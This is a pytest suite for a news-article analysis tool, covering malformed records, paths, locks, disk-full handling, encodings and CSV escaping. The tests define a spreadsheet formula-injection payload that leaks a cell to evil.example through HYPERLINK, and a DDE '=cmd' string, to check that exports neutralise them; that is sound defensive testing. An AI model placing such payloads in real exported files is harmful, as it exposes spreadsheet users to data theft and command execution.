"""Bad input, relative paths and spreadsheets: each case that once broke a run, kept fixed.

Sources of the article text: ``tests/data/bbc/politics_001.txt`` (BBC News, see
``tests/data/README.md``) and made-up strings written for these tests.
"""

from __future__ import annotations

import errno
import json
import os
import signal
import subprocess
import sys
import warnings

import pandas as pd
import pyarrow.parquet as pq
import pytest

from analysis import analyze, config
from analysis.presenting import charts
from analysis import corpus as corpus_module
from analysis.corpus import store as corpus_store
from analysis.corpus import workers as corpus_workers
from analysis.cli import main
from analysis.corpus import CORPUS_TABLES, analyze_batch, iter_items, run_corpus
from analysis.errors import AnalysisError, InputError
from analysis.classroom.exercises import read_teacher_key
from analysis.presenting.export import spreadsheet_safe, to_json_dict
from analysis.reading.ingest import read_article, read_bytes, read_path
from analysis.text.structure import split_paragraphs

from .conftest import DATA_DIR

POLITICS = DATA_DIR / "bbc" / "politics_001.txt"
FORMULA = '=HYPERLINK("http://evil.example/?leak="&A2,"Read the source")'


def _one_line(err: str) -> bool:
    lines = err.strip().splitlines()
    return len(lines) == 1 and "Traceback" not in err


@pytest.fixture()
def good_text() -> str:
    return POLITICS.read_text(encoding="utf-8")


# 1. Paths are resolved against the directory the command started from -------------------


@pytest.mark.slow
def test_a_relative_report_out_is_written_under_the_starting_directory(tmp_path, monkeypatch, capsys, seed_path):
    before = sorted(p.name for p in config.NOTEBOOKS_DIR.iterdir())
    monkeypatch.chdir(tmp_path)
    assert main(["report", str(seed_path), "--out", "reports"]) == 0, capsys.readouterr().err
    assert (tmp_path / "reports" / seed_path.stem / "report.html").is_file()
    assert (tmp_path / "reports" / seed_path.stem / "paragraphs.csv").is_file()
    assert sorted(p.name for p in config.NOTEBOOKS_DIR.iterdir()) == before  # nothing written under notebooks/
    assert not list(tmp_path.glob("reports/.report-*"))


# 2. One bad record is one row of errors ---------------------------------------------------


def _write_hostile_jsonl(path, good: str) -> list[str]:
    """Good articles mixed with one record of each bad kind; returns the good ids."""
    lines = [
        json.dumps({"id": "good-1", "text": good}).encode(),
        b'"\\ud83d"',  # a JSON string, and a lone surrogate
        b"[1, 2]",  # a list, not an object
        b'{"id": "latin", "text": "caf\xe9 au lait"}',  # not UTF-8
        b"{bad json",
        json.dumps({"id": "surrogate", "text": "Hello \ud83d " + good}).encode(),  # lone surrogate in the text
        json.dumps({"id": "no-text", "body": good}).encode(),
        json.dumps({"id": "html", "text": "<s #>ed with p><p>e m'aco\u00b2nsi\u0149der"}).encode(),
        json.dumps({"id": "nul", "text": good + "\x00"}).encode(),
        json.dumps({"id": "good-2", "text": good.replace("Labour", "The party")}).encode(),
    ]
    path.write_bytes(b"\n".join(lines) + b"\n")
    return ["good-1", "html", "good-2"]  # a record's text is read as text, never as HTML


def test_a_corpus_with_one_bad_record_of_each_kind_finishes_and_a_rerun_does_nothing(tmp_path, good_text):
    source = tmp_path / "mixed.jsonl"
    good = _write_hostile_jsonl(source, good_text)
    out = tmp_path / "out"
    counts = run_corpus(source, out, batch_size=4, progress=False)
    articles = pd.read_parquet(out / "articles.parquet")
    errors = pd.read_parquet(out / "errors.parquet")
    assert articles["article_id"].tolist() == good
    assert errors["article_id"].tolist() == ["line-2", "line-3", "line-4", "line-5", "surrogate", "no-text", "nul"]
    assert set(errors["stage"]) <= set(corpus_module.ERROR_STAGES) and errors["error_type"].map(bool).all()
    assert all("\n" not in message for message in errors["error"])
    reasons = dict(zip(errors["article_id"], errors["error"]))
    assert "not valid JSON" in reasons["line-5"] and "is empty" not in reasons["line-5"]
    assert "an array, not an object" in reasons["line-3"] and "not valid UTF-8" in reasons["line-4"]
    assert "lone surrogate" in reasons["surrogate"] and "NUL" in reasons["nul"]
    assert counts["analysed"] == 10
    again = run_corpus(source, out, batch_size=4, progress=False)
    assert again["analysed"] == 0 and again["articles"] == 3 and again["errors"] == 7


def test_a_csv_corpus_with_a_byte_that_is_not_utf8_loses_only_that_row(tmp_path, good_text):
    source = tmp_path / "rows.csv"
    frame = pd.DataFrame({"id": ["a", "b", "c"], "text": [good_text, "caf\u00e9 BAD", good_text]})
    data = frame.to_csv(index=False).encode("utf-8").replace("caf\u00e9".encode(), b"caf\xe9")
    source.write_bytes(data)
    run_corpus(source, tmp_path / "out", progress=False)
    assert pd.read_parquet(tmp_path / "out" / "articles.parquet")["article_id"].tolist() == ["a", "c"]
    errors = pd.read_parquet(tmp_path / "out" / "errors.parquet")
    assert errors["article_id"].tolist() == ["row-2"] and "not valid UTF-8" in errors["error"].iloc[0]


def test_an_article_whose_rules_fail_is_an_error_row_and_the_batch_goes_on(tmp_path, good_text, monkeypatch, nlp):
    from analysis import core

    real = core.analyze_article

    def failing(article, **kwargs):
        if "SABOTAGE" in article.text:
            raise RuntimeError("a rule broke")
        return real(article, **kwargs)

    monkeypatch.setattr(core, "analyze_article", failing)
    items = [corpus_module.CorpusItem("a", "a", text=good_text), corpus_module.CorpusItem("b", "b", text=good_text + " SABOTAGE"),
             corpus_module.CorpusItem("c", "c", text=good_text)]  # fmt: skip
    outcomes = analyze_batch(items, nlp=nlp)
    assert [tables is not None for _, tables, _ in outcomes] == [True, False, True]
    error = outcomes[1][2]
    assert (error["stage"], error["error_type"], error["error"]) == ("rules", "RuntimeError", "a rule broke")


def test_ids_from_file_names_that_are_not_utf8_and_lone_surrogates_are_written_escaped(tmp_path, good_text):
    folder = tmp_path / "corpus"
    folder.mkdir()
    (folder / "plain.txt").write_text(good_text, encoding="utf-8")
    with open(os.path.join(os.fsencode(folder), b"caf\xe9.txt"), "wb") as handle:  # a Latin-1 file name
        handle.write(good_text.encode("cp1252"))
    run_corpus(folder, tmp_path / "out", progress=False)
    assert pd.read_parquet(tmp_path / "out" / "articles.parquet")["article_id"].tolist() == ["caf\\xe9", "plain"]
    source = tmp_path / "ids.jsonl"
    source.write_text(json.dumps({"id": "\ud83d", "text": good_text}) + "\n", encoding="utf-8")
    run_corpus(source, tmp_path / "out2", progress=False)
    assert pd.read_parquet(tmp_path / "out2" / "articles.parquet")["article_id"].tolist() == ["\\xed\\xa0\\xbd"]


def test_the_bad_html_record_in_tables_is_exit_2_with_one_line(tmp_path, capsys):
    page = tmp_path / "broken.html"
    page.write_text("<s #>ed with p><p>e m'aco\u00b2nsi\u0149der", encoding="utf-8")
    assert main(["tables", str(page)]) == 2
    err = capsys.readouterr().err
    assert _one_line(err) and "cannot be read" in err


# 3. Spreadsheet formulas -----------------------------------------------------------------


@pytest.mark.parametrize(
    "value, written",
    [(FORMULA, "'" + FORMULA), ("@SUM(A1)", "'@SUM(A1)"), ("+x", "'+x"), ("-x", "'-x"), ("\tx", "'\tx"),
     ("\uff1dA1", "'\uff1dA1"), ("-5", "-5"), ("+3.2%", "+3.2%"), ("-1,000", "-1,000"), ("plain", "plain"), (7, 7)],
)  # fmt: skip
def test_cells_that_start_like_a_formula_get_an_apostrophe_and_numbers_stay(value, written):
    assert spreadsheet_safe(value) == written


def test_article_csvs_are_guarded_and_json_stays_exact(tmp_path, capsys, nlp, good_text):
    path = tmp_path / "formula.txt"
    path.write_text(f"{FORMULA}\n\n@Reporter -3 degrees\n\n{good_text}", encoding="utf-8")
    assert main(["tables", str(path), "--format", "csv", "--out", str(tmp_path / "csv")]) == 0
    paragraphs = pd.read_csv(tmp_path / "csv" / "paragraphs.csv", keep_default_na=False)
    assert paragraphs["text"].iloc[0] == "'" + FORMULA and paragraphs["text"].iloc[1] == "'@Reporter -3 degrees"
    for name in ("paragraphs", "sentences", "tokens"):
        cells = pd.read_csv(tmp_path / "csv" / f"{name}.csv", keep_default_na=False).select_dtypes(exclude="number")
        # Every text cell is one a spreadsheet will not run: guarded, or a plain number ("-3").
        assert all(spreadsheet_safe(v) == v for v in cells.to_numpy().ravel() if not str(v).startswith("'"))
    assert pd.api.types.is_integer_dtype(paragraphs["start"])  # numbers stay numbers
    capsys.readouterr()
    assert main(["tables", str(path)]) == 0
    data = json.loads(capsys.readouterr().out)
    assert data["paragraphs"][0]["text"] == FORMULA  # JSON is for code: exact


def test_corpus_csvs_are_guarded_and_parquet_stays_exact(tmp_path, good_text):
    source = tmp_path / "ids.jsonl"
    source.write_text(json.dumps({"id": "=cmd|' /C calc'!A0", "text": f"{FORMULA}\n\n{good_text}"}) + "\n", encoding="utf-8")
    out = tmp_path / "out"
    run_corpus(source, out, progress=False)
    csv = pd.read_csv(out / "paragraphs.csv", keep_default_na=False)
    assert csv["article_id"].iloc[0] == "'=cmd|' /C calc'!A0" and csv["text"].iloc[0] == "'" + FORMULA
    parquet = pd.read_parquet(out / "paragraphs.parquet")
    assert parquet["article_id"].iloc[0] == "=cmd|' /C calc'!A0" and parquet["text"].iloc[0] == FORMULA


# 4. and 5. Ids: duplicates refused, any string round-trips -------------------------------


def test_duplicate_ids_are_refused_naming_them(tmp_path, capsys, good_text):
    source = tmp_path / "dups.jsonl"
    records = [{"id": "same", "text": good_text}, {"id": 7, "text": good_text}, {"id": "other", "text": good_text},
               {"id": "same", "text": good_text}, {"id": "7", "text": good_text}]  # fmt: skip
    source.write_text("".join(json.dumps(r) + "\n" for r in records), encoding="utf-8")
    assert main(["corpus", str(source), "--out", str(tmp_path / "out"), "--no-progress"]) == 2
    err = capsys.readouterr().err
    assert _one_line(err) and "'same'" in err and "'7'" in err and "dups.jsonl:4" in err
    assert not (tmp_path / "out").exists()


def test_an_id_with_a_newline_round_trips_and_is_not_redone(tmp_path, good_text):
    source = tmp_path / "odd.jsonl"
    source.write_text(json.dumps({"id": "two\nlines", "text": good_text}) + "\n", encoding="utf-8")
    out = tmp_path / "out"
    run_corpus(source, out, progress=False)
    assert corpus_store._done_ids(out) == {"two\nlines"}
    assert run_corpus(source, out, progress=False)["analysed"] == 0
    assert pd.read_parquet(out / "articles.parquet")["article_id"].tolist() == ["two\nlines"]


# 6. One run per output folder ------------------------------------------------------------


def test_a_second_run_on_the_same_out_refuses_and_a_dead_run_leaves_no_lock(tmp_path, good_text):
    from filelock import FileLock

    source = tmp_path / "one.jsonl"
    source.write_text(json.dumps({"id": "a", "text": good_text}) + "\n", encoding="utf-8")
    out = tmp_path / "out"
    out.mkdir()
    with FileLock(out / ".lock"):  # another run holds the folder
        with pytest.raises(InputError, match="in use by another corpus run"):
            run_corpus(source, out, progress=False)
    # A run killed with SIGKILL while it holds the lock leaves nothing stuck.
    holder = subprocess.Popen([sys.executable, "-c", "import sys, time; from filelock import FileLock; "
                               "FileLock(sys.argv[1]).acquire(); print('held', flush=True); time.sleep(60)", str(out / ".lock")],
                              stdout=subprocess.PIPE, text=True)  # fmt: skip
    assert holder.stdout.readline().strip() == "held"
    os.kill(holder.pid, signal.SIGKILL)
    holder.wait()
    assert run_corpus(source, out, progress=False)["articles"] == 1


# 7. A full disk during assembly ----------------------------------------------------------


def test_a_full_disk_during_assembly_leaves_no_temp_files_and_a_rerun_resumes(tmp_path, monkeypatch, good_text):
    source = tmp_path / "two.jsonl"
    source.write_text("".join(json.dumps({"id": i, "text": good_text}) + "\n" for i in range(2)), encoding="utf-8")
    out = tmp_path / "out"
    calls = {"n": 0}
    real = corpus_store._assemble_table

    def full(out_dir, table, parquet_tmp, csv_tmp):
        calls["n"] += 1
        if calls["n"] > 3:  # the fourth table: half written, then the disk is full
            parquet_tmp.write_bytes(b"PAR1 half")
            raise OSError(errno.ENOSPC, "No space left on device")
        return real(out_dir, table, parquet_tmp, csv_tmp)

    monkeypatch.setattr(corpus_store, "_assemble_table", full)
    with pytest.raises(AnalysisError, match="no space left on the disk; free some space .* run the same command again"):
        run_corpus(source, out, progress=False)
    assert not list(out.glob(".*.tmp")) and not list(out.glob("*.parquet"))  # all tables or none
    monkeypatch.setattr(corpus_store, "_assemble_table", real)
    counts = run_corpus(source, out, progress=False)
    assert counts["analysed"] == 0 and counts["articles"] == 2
    assert all((out / f"{name}.parquet").exists() for name in CORPUS_TABLES)


def test_a_full_disk_while_writing_a_batch_stops_in_one_line_and_a_rerun_resumes(tmp_path, monkeypatch, capsys, good_text):
    source = tmp_path / "two.jsonl"
    source.write_text("".join(json.dumps({"id": i, "text": good_text}) + "\n" for i in range(2)), encoding="utf-8")
    out = tmp_path / "out"
    real = pq.ParquetWriter.write_table

    def full(self, table, *args, **kwargs):
        raise OSError(errno.ENOSPC, "No space left on device")

    monkeypatch.setattr(pq.ParquetWriter, "write_table", full)
    assert main(["corpus", str(source), "--out", str(out), "--no-progress"]) == 2
    err = capsys.readouterr().err
    assert _one_line(err) and "no space left on the disk" in err and "resumes" in err
    assert not [p for p in out.rglob("*") if p.name.endswith(".tmp")]
    monkeypatch.setattr(pq.ParquetWriter, "write_table", real)
    assert run_corpus(source, out, progress=False)["articles"] == 2


# 8. Line endings -------------------------------------------------------------------------


def test_every_line_ending_convention_gives_the_same_paragraphs(good_text):
    def texts(text):
        return [" ".join(text[s:e].split()) for s, e in split_paragraphs(text)]

    lines = good_text.split("\n")
    mixed = "".join(line + ("\n", "\r", "\r\n")[i % 3] for i, line in enumerate(lines))
    expected = texts(good_text)
    assert len(expected) == 6
    for variant in (good_text.replace("\n", "\r"), good_text.replace("\n", "\r\n"), mixed):
        assert texts(variant) == expected


def test_an_old_mac_file_reads_as_paragraphs_with_offsets_into_its_own_text(tmp_path, nlp, good_text):
    path = tmp_path / "mac.txt"
    path.write_bytes(good_text.replace("\n", "\r").encode("utf-8"))
    result = analyze(path, nlp=nlp)
    assert result.headline == "Labour plans maternity pay rise"
    assert len(result.paragraphs) == 6 and result.check() == []
    assert result.text == good_text.replace("\n", "\r")


# 9. No article text is read as mathtext ---------------------------------------------------


def test_dollar_signs_in_names_are_drawn_as_written(nlp):
    import io

    text = ("Firm results\n\nThe firm, $$x^2$$ Holdings, said sales rose by $5m. Chief executive Ann $mith said "
            "$\\frac{1}{0}$ Ltd paid $$3 to analysts, who expect 12,000 jobs.")  # fmt: skip
    result = analyze(text, nlp=nlp)
    drawn = []
    for draw in (charts.certainty_strip, charts.claims_by_status, charts.claims_by_source_type, charts.sources_by_stance,
                 charts.entity_mentions, charts.numbers_chart):  # fmt: skip
        figure = draw(result)
        figure.savefig(io.BytesIO(), format="png")  # drawing is where mathtext would fail
        drawn += [t.get_text() for ax in figure.axes for t in ax.get_yticklabels()]
    # Labels hold the names with each $ escaped, which matplotlib draws as a plain dollar sign.
    assert any("\\$" in label for label in drawn) and not any(label.count("$") != label.count("\\$") for label in drawn)


# 10. NUL bytes anywhere -----------------------------------------------------------------


@pytest.mark.parametrize("where", [10, 9000, 200_000])
def test_a_nul_byte_anywhere_in_the_file_is_refused(tmp_path, capsys, where, good_text):
    body = (good_text * 200)[:300_000].encode("utf-8")
    path = tmp_path / "nul.txt"
    path.write_bytes(body[:where] + b"\x00" + body[where:])
    with pytest.raises(InputError, match="binary"):
        read_path(path)
    assert main(["tables", str(path), "--format", "csv", "--out", str(tmp_path / "csv")]) == 2
    assert _one_line(capsys.readouterr().err) and not (tmp_path / "csv").exists()


# 11. Language: short text too ------------------------------------------------------------


def test_short_text_in_another_script_is_not_english_and_short_english_cannot_be_checked(tmp_path, capsys):
    chinese = "市议会宣布关闭三座图书馆\n\n议会发言人周一表示，预算削减迫使议会做出决定。\n\n居民对此表示不满。"
    assert any("does not look like English" in w for w in read_article(chinese).warnings)
    path = tmp_path / "zh.txt"
    path.write_text(chinese, encoding="utf-8")
    assert main(["tables", str(path)]) == 2
    assert "does not look like English" in capsys.readouterr().err
    short = read_article("Council shuts libraries\n\nThe council closed three libraries.").warnings
    assert any("too few to check that it is English" in w for w in short)
    assert not read_path(POLITICS).warnings


# 12. --out naming a file -----------------------------------------------------------------


@pytest.mark.parametrize("command", ["tables", "report", "corpus", "exercise"])
def test_out_naming_an_existing_file_is_exit_2_with_one_line(tmp_path, capsys, command, seed_path):
    taken = tmp_path / "taken"
    taken.write_text("not a folder", encoding="utf-8")
    args = {"tables": ["tables", str(seed_path), "--format", "csv"], "report": ["report", str(seed_path)],
            "corpus": ["corpus", str(DATA_DIR / "bbc")], "exercise": ["exercise", str(seed_path)]}[command]  # fmt: skip
    assert main([*args, "--out", str(taken)]) == 2
    err = capsys.readouterr().err
    assert _one_line(err) and "is a file, not a folder" in err
    assert taken.read_text(encoding="utf-8") == "not a folder"


# 13. A teacher's key is checked before it is used -----------------------------------------


@pytest.mark.parametrize(
    "rows, message",
    [
        ("sent_id,status\n5,hedged\n5,reported\n", "line 3: sentence 5 is already in the key"),
        ("sent_id,status\n5,maybe\n", "line 2: status 'maybe' is not one of"),
        ("sent_id,source_type\n5,alien\n", "line 2: source_type 'alien' is not one of"),
        ("sent_id,status\n-1,hedged\n", "line 2: sent_id '-1' is not a sentence number"),
        ("sent_id,status,colour\n5,hedged,red\n", "unknown column 'colour'"),
        ("status\nhedged\n", "needs a sent_id column"),
    ],
)
def test_a_bad_teacher_key_is_refused_naming_the_line(tmp_path, rows, message):
    key = tmp_path / "key.csv"
    key.write_text(rows, encoding="utf-8")
    with pytest.raises(InputError, match=message):
        read_teacher_key(key)


def test_a_teacher_key_naming_a_sentence_the_article_lacks_is_refused(tmp_path, seed):
    key = tmp_path / "key.csv"
    key.write_text("sent_id,status\n9999,hedged\n", encoding="utf-8")
    with pytest.raises(InputError, match=r"line 2: the article has no sentence 9999 \(its sentences are 0-"):
        read_teacher_key(key, result=seed)
    headline = int(seed.sentences.loc[seed.sentences["status"].isna(), "sent_id"].iloc[0])
    key.write_text(f"sent_id,status\n{headline},hedged\n", encoding="utf-8")
    with pytest.raises(InputError, match="is not a body claim"):
        read_teacher_key(key, result=seed)


def test_the_exercise_command_refuses_a_bad_key_before_writing_anything(tmp_path, capsys, seed_path):
    # Every problem in one message (a repeated sentence and one the article lacks), so a
    # teacher fixes the key in one go; the key is checked against the article's sentences,
    # so after the analysis, but before anything is written.
    key = tmp_path / "key.csv"
    key.write_text("sent_id,status\n5,hedged\n5,reported\n9999,hedged\n", encoding="utf-8")
    assert main(["exercise", str(seed_path), "--teacher-key", str(key), "--out", str(tmp_path / "ex")]) == 2
    err = capsys.readouterr().err
    assert _one_line(err) and "line 3" in err and "line 4" in err and "\x1b[" not in err
    assert not (tmp_path / "ex").exists()


# 14. Offsets and the BOM -----------------------------------------------------------------


def test_with_a_bom_offsets_index_the_decoded_text_and_json_text_is_that_text(tmp_path, nlp, good_text):
    path = tmp_path / "bom.txt"
    path.write_bytes(b"\xef\xbb\xbf" + good_text.encode("utf-8"))
    result = analyze(path, nlp=nlp)
    assert result.text == good_text and result.article.encoding == "utf-8-sig"
    data = to_json_dict(result)
    assert data["text"] == good_text
    first = data["paragraphs"][0]
    assert good_text[first["start"] : first["end"]] == first["text"] == "Labour plans maternity pay rise"


# 15. What the user sees ------------------------------------------------------------------


def test_progress_counts_articles_within_a_batch(nlp, good_text):
    ticks = []
    items = [corpus_module.CorpusItem(str(i), str(i), text=good_text) for i in range(3)]
    analyze_batch([*items, corpus_module.CorpusItem("x", "x", error="bad record")], nlp=nlp, on_article=lambda: ticks.append(1))
    assert len(ticks) == 4


def test_a_rerun_with_nothing_to_do_says_so(tmp_path, capsys, good_text):
    source = tmp_path / "one.jsonl"
    source.write_text(json.dumps({"id": "a", "text": good_text}) + "\n", encoding="utf-8")
    out = tmp_path / "out"
    assert main(["corpus", str(source), "--out", str(out), "--no-progress"]) == 0
    assert "analysed 1 articles this run" in capsys.readouterr().err
    assert main(["corpus", str(source), "--out", str(out), "--no-progress"]) == 0
    assert "nothing left to do" in capsys.readouterr().err


@pytest.mark.slow
def test_a_small_corpus_gives_each_process_a_share(tmp_path, good_text, monkeypatch):
    sizes = []
    real = corpus_workers._batches

    def recorded(items, size):
        sizes.append(size)
        return real(items, size)

    monkeypatch.setattr(corpus_workers, "_batches", recorded)
    source = tmp_path / "four.jsonl"
    source.write_text("".join(json.dumps({"id": i, "text": good_text}) + "\n" for i in range(4)), encoding="utf-8")
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        run_corpus(source, tmp_path / "out", jobs=2, progress=False)
    assert sizes == [2]
    assert [item.article_id for item in iter_items(source)] == ["0", "1", "2", "3"]


def test_read_bytes_refuses_nul_after_decoding_utf16():
    with pytest.raises(InputError, match="binary"):
        read_bytes("Headline\n\nBody\x00text.".encode("utf-16"), source="x")
